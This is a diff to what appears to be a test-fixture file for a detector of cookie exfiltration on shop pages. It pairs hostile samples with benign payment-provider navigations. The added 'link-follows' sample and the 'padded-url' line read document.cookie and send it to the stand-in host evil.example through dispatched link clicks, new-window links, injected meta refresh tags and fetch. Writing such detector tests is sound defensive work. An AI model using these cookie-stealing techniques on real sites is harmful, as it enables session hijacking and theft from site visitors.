@@ -443,6 +443,43 @@ export const MAIN_WORLD_SCRIPTS = {
   });
 })();`,
 
+  /**
+   * Carries the cookie off in navigations a script starts without `location`: links it follows — a click event
+   * dispatched on a link into a frame (a shop document of its own), click() on a link that opens a new window
+   * (the helper cancels that one itself, so the test keeps one tab; the attempt is what counts) — and
+   * `<meta http-equiv=refresh>` put into frames' documents by property, by setAttribute (quoted URL, any case)
+   * and by markup.
+   */
+  'link-follows': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  ${SHOP_FRAME}
+  Promise.all([frame('saq-link-a'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c')]).then(([link, a, b, m]) => {
+    link.onload = a.onload = b.onload = m.onload = null;
+    const into = document.createElement('a');
+    into.href = 'https://evil.example/link-dispatched?c=' + c;
+    into.target = 'saq-link-a';
+    document.body.appendChild(into);
+    into.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
+    const blank = document.createElement('a');
+    blank.href = 'https://evil.example/link-blank?c=' + c;
+    blank.target = '_blank';
+    blank.addEventListener('click', (e) => e.preventDefault());
+    document.body.appendChild(blank);
+    blank.click();
+    const da = a.contentDocument, db = b.contentDocument, dm = m.contentDocument;
+    const byProperty = da.createElement('meta');
+    byProperty.httpEquiv = 'refresh';
+    byProperty.content = '0;url=https://evil.example/meta-prop?c=' + c;
+    da.head.appendChild(byProperty);
+    const byAttribute = db.createElement('meta');
+    byAttribute.setAttribute('content', "0; URL='https://evil.example/meta-attr?c=" + c + "'");
+    byAttribute.setAttribute('HTTP-EQUIV', 'Refresh');
+    db.head.appendChild(byAttribute);
+    dm.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0,https://evil.example/meta-markup?c=' + c + '">');
+    window.__followed = true;
+  });
+})();`,
+
   /** Sends the cookie in a URL padded past 2 KB (longer than a finding's strings may be). */
   'padded-url': `fetch('https://evil.example/padded?c=' + encodeURIComponent(document.cookie) + '&pad=' + 'x'.repeat(4000), { mode: 'no-cors' }).catch(() => {});`,
 
@@ -752,14 +789,15 @@ export const BENIGN = {
 })();`,
   /**
    * The shop sending its own frames and itself to its payment provider, its cookie in the URL: a frame's
-   * Location, a link it clicks into a frame, and location.assign (cancelled by the shop where the browser
-   * has the Navigation API, so the test keeps the page); and a link to a partner the person clicks.
+   * Location, a link it clicks into a frame, a click event it dispatches on another, and location.assign
+   * (cancelled by the shop where the browser has the Navigation API, so the test keeps the page); a meta
+   * refresh sending a frame to the provider's status page; and a link to a partner the person clicks.
    */
   'pay-navigations': `(() => {
   const ref = encodeURIComponent(document.cookie);
   ${SHOP_FRAME}
-  Promise.all([frame('pay-a'), frame('pay-b')]).then(([a]) => {
-    a.onload = null;
+  Promise.all([frame('pay-a'), frame('pay-b'), frame('pay-c')]).then(([a, , c]) => {
+    a.onload = c.onload = null;
     a.contentWindow.location.href = 'https://pay.example/checkout?ref=' + ref;
     const link = document.createElement('a');
     link.href = 'https://pay.example/3ds?ref=' + ref;
@@ -772,6 +810,16 @@ export const BENIGN = {
     partner.target = 'pay-b';
     partner.textContent = 'Нұсқаулық';
     document.body.appendChild(partner);
+    // A click event it dispatches on a link into a frame, and a refresh that sends a frame to the provider's status page.
+    const slip = document.createElement('a');
+    slip.href = 'https://pay.example/slip?ref=' + ref;
+    slip.target = 'pay-b';
+    document.body.appendChild(slip);
+    slip.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
+    const status = c.contentDocument.createElement('meta');
+    status.httpEquiv = 'refresh';
+    status.content = '0; url=https://pay.example/status?ref=' + ref;
+    c.contentDocument.head.appendChild(status);
     if (typeof navigation === 'object') {
       navigation.addEventListener('navigate', (e) => e.destination.url.includes('/pay-top') && e.preventDefault());
       location.assign('https://pay.example/pay-top?ref=' + ref);
